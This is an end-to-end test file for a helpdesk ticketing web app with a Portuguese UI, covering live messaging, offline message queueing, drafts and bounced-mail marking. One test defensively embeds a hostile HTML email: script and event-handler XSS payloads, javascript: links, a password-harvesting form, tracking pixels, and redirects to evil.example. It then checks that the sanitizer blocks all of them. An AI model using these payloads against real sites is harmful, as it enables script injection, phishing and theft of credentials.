import type { Page } from 'playwright-core'
import { expect, test } from 'vitest'
import { NEW_TICKET } from '#test/new-tickets.ts'
import { expectAccessible } from './accessible.ts'
import { openLive } from './live-page.ts'
import { worldOfScreens } from './world-of-screens.ts'

/** What is said on a ticket, by employees, agents and people in the CRM. */

const world = await worldOfScreens()

const said = (page: Page, text: string) => page.locator('[id^=message-]').filter({ hasText: text })

async function ticketOfMaria(title: string): Promise<{ id: number; dealId: number }> {
  const maria = await world.signIn('1001')
  const answer = await maria.post('/api/v1/tickets', { ...NEW_TICKET, title })
  // Its shape is held by the tests of the API.
  const { id } = answer.body as { id: number }
  await world.settle({ hurry: true })
  const [row] = await world.sql<{ dealId: number }[]>`select deal_id as "dealId" from deals where id = ${id}`
  return { id, dealId: row?.dealId ?? 0 }
}

async function says(page: Page, text: string): Promise<void> {
  await page.getByLabel('Escreva uma mensagem').fill(text)
  await page.getByRole('button', { name: 'Enviar', exact: true }).click()
}

test('employee, agent and CRM hear each other without a reload; a note stays with the team; nothing is lost or doubled offline', async () => {
  const { id, dealId } = await ticketOfMaria('Impressora parada')
  const line = await world.openLine()
  const [maria, joao] = [await world.as('1001', { proxy: line.proxy }), await world.as('2001')]
  await maria.goto(`/chamados/${id}`)
  await joao.goto(`/quadro/${id}`)
  await joao.getByText('ao vivo').waitFor()
  await joao
    .getByText(/Maria Santos está vendo|Maria Santos/)
    .first()
    .waitFor()
  await says(joao, 'Já estou vendo.')
  await said(maria, 'Já estou vendo.').waitFor()
  await joao.getByText('Nota interna', { exact: true }).first().click()
  await joao.getByLabel('Escreva uma nota para a equipe').fill('O toner acabou de novo.')
  await joao.getByRole('button', { name: 'Enviar', exact: true }).click()
  await said(joao, 'O toner acabou de novo.').waitFor()

  const crm = await world.inCrm()
  await crm.goto(`/deal/${dealId}`)
  await crm.getByLabel('Autor').selectOption('Ana Costa')
  await crm.getByRole('textbox', { name: 'Comentário' }).fill('O toner chega amanhã.')
  await crm.getByRole('button', { name: 'Comentar' }).click()
  await said(maria, 'O toner chega amanhã.').waitFor()
  await said(joao, 'O toner chega amanhã.').waitFor()
  await crm.getByLabel('Mover para').selectOption('Aguardando solicitante')
  await crm.getByRole('button', { name: 'Mover', exact: true }).click()
  await maria.getByText('Esperando você').first().waitFor()

  line.cut()
  await says(maria, 'Obrigada, eu espero.')
  await maria.getByText('Não enviamos ainda.').waitFor()
  await joao.getByText('Resposta', { exact: true }).click()
  await says(joao, 'Combinado.')
  line.mend()
  await said(joao, 'Obrigada, eu espero.').waitFor()
  await said(maria, 'Combinado.').waitFor()
  await expect.poll(() => maria.getByText('Não enviamos ainda.').count(), { timeout: 60_000 }).toBe(0)
  for (const page of [maria, joao]) expect(await page.getByText('Obrigada, eu espero.').count()).toBe(1)
  expect(await maria.getByText('O toner acabou de novo.').count(), 'a note').toBe(0)
  await world.settle({ hurry: true })
  await crm.getByText('Obrigada, eu espero.').waitFor()
  expect(await crm.getByText('O toner acabou de novo.').count(), 'a note').toBe(0)
})

/** From the page of signing in, as everybody does on a device that is not theirs alone. */
async function signsIn(page: Page, matricula: string): Promise<void> {
  await page.getByLabel('Matrícula').fill(matricula)
  await page.getByLabel('Senha', { exact: true }).fill('ponte-demo')
  await page.getByRole('button', { name: 'Entrar' }).click()
}

test('what could not be sent goes out from any page, after a reload, in its order, once, and only as its author; drafts are their author’s too', async () => {
  const { id } = await ticketOfMaria('Teclado sem acento')
  const messages = '**/api/v1/tickets/*/messages'
  const page = await world.as('1001')
  const asked: string[] = []
  page.on('request', (request) => request.method() === 'POST' && asked.push(request.url()))
  await page.route(messages, (route) =>
    route.request().method() === 'POST' ? route.abort() : route.continue(),
  )
  await page.goto(`/chamados/${id}`)
  for (const text of ['Primeiro o til.', 'Depois o circunflexo.']) await says(page, text)
  await expect.poll(() => page.getByText('Não enviamos ainda.').count(), { timeout: 60_000 }).toBe(2)
  await page.getByLabel('Escreva uma mensagem').fill('E a crase')
  await page.reload()
  await expect.poll(() => page.getByText('Não enviamos ainda.').count(), { timeout: 60_000 }).toBe(2)

  await page.getByRole('button', { name: /Maria Santos/ }).click()
  await page.getByRole('button', { name: 'Sair' }).click()
  await page.getByText('Você saiu.').waitFor()
  await page.unroute(messages)
  asked.length = 0
  await signsIn(page, '2001')
  await page.waitForURL('**/quadro')
  await page.goto(`/quadro/${id}`)
  await page.getByLabel('Escreva uma mensagem').waitFor()
  expect(await page.getByLabel('Escreva uma mensagem').inputValue(), 'the draft of another').toBe('')
  expect(await page.getByText('Primeiro o til.').count()).toBe(0)
  expect(asked.filter((url) => url.endsWith('/messages'))).toEqual([])

  await page.keyboard.press('Escape')
  await page.getByRole('button', { name: /João Tech/ }).click()
  await page.getByRole('button', { name: 'Sair' }).click()
  await page.getByText('Você saiu.').waitFor()
  await signsIn(page, '1001')
  await page.waitForURL('**/chamados')
  await page.getByText('A mensagem que esperava conexão foi enviada.').first().waitFor()
  const said = () =>
    world.sql`select body_text, author_user_id from activities where ticket_id = ${id} and client_id is not null order by id`
  await expect.poll(async () => (await said()).length, { timeout: 60_000 }).toBe(2)
  expect(await said()).toEqual([
    { body_text: 'Primeiro o til.', author_user_id: 1 },
    { body_text: 'Depois o circunflexo.', author_user_id: 1 },
  ])
  await page.goto(`/chamados/${id}`)
  await page.getByText('Depois o circunflexo.').waitFor()
  expect(await page.getByText('Não enviamos ainda.').count()).toBe(0)
  expect(await page.getByLabel('Escreva uma mensagem').inputValue()).toBe('E a crase')
})

test('a page that opens asks for each thing once, and shows what happened while its first answer was on its way', async () => {
  const { id, dealId } = await ticketOfMaria('Scanner mudo')
  const maria = await world.as('1001')
  const asked: string[] = []
  maria.on('request', (request) => request.url().includes('/api/') && asked.push(request.url()))
  for (const path of ['/chamados', `/chamados/${id}`]) {
    asked.length = 0
    await openLive(maria, path)
    expect(asked.filter((url, at) => asked.indexOf(url) !== at)).toEqual([])
  }
  await maria.route('**/api/v1/tickets?*in_progress*', async (route) => {
    const response = await route.fetch()
    await world.person.changes(dealId, { title: 'Scanner mudo e quente' })
    await world.isQuiet()
    await route.fulfill({ response })
  })
  await maria.goto('/chamados')
  await maria.getByText('Scanner mudo e quente').waitFor()
})

test('a hostile mail is a mail: nothing of it runs, reaches out or leaves its frame', async () => {
  const { id, dealId } = await ticketOfMaria('Proposta estranha')
  const hostile = `<p>Bom dia, segue a proposta.</p>
    <script>parent.pwned = 1</script><img src="x" onerror="parent.pwned = 1"><svg onload="parent.pwned = 1"></svg>
    <img src="http://evil.example/pixel.png"><link rel="stylesheet" href="http://evil.example/a.css">
    <style>body { background: url(http://evil.example/b.png) } </style>
    <a href="javascript:parent.pwned = 1">Abrir</a><iframe src="javascript:parent.pwned = 1"></iframe>
    <form action="http://evil.example/"><input name="senha"><button>Entrar</button></form>
    <div style="position: fixed; inset: 0; background: red">Sua sessão terminou</div><base href="http://evil.example/">
    <meta http-equiv="refresh" content="0; url=http://evil.example/">`
  await world.person.mails(dealId, { SUBJECT: 'Proposta', DESCRIPTION: hostile })
  await world.isQuiet()
  for (const [matricula, address] of [
    ['1001', `/chamados/${id}`],
    ['2001', `/quadro/${id}`],
  ] as const) {
    const page = await world.as(matricula)
    const asked: string[] = []
    page.on('request', (request) => asked.push(request.url()))
    await page.goto(address)
    const frame = page.frameLocator('iframe[title^="Conteúdo do e-mail"]')
    await frame.getByText('Bom dia, segue a proposta.').waitFor()
    const link = frame.getByText('Abrir')
    if ((await link.count()) > 0) await link.first().click()
    expect(await page.evaluate('window.pwned ?? null')).toBe(null)
    expect(await frame.locator('script, form, iframe, style, link, meta').count()).toBe(0)
    expect(asked.filter((url) => url.includes('evil.example'))).toEqual([])
    expect(new URL(page.url()).pathname).toBe(address)
  }
})

test('a letter that came back is marked at its message, for the team alone', async () => {
  const { id } = await ticketOfMaria('Senha nova')
  const text = 'A senha nova vai por e-mail.'
  const answer = await (await world.signIn('2001')).post(`/api/v1/tickets/${id}/messages`, { message: text })
  expect(answer.status, answer.text).toBe(201)
  await world.sql`update activities set returned_at = now() where body_text = ${text}`
  const [joao, maria] = [await world.as('2001'), await world.as('1001')]
  await joao.goto(`/quadro/${id}`)
  await said(joao, text).getByText('não entregue por e-mail').waitFor()
  await expectAccessible(joao)
  await maria.goto(`/chamados/${id}`)
  await said(maria, text).waitFor()
  expect(await maria.getByText('não entregue').count()).toBe(0)
})
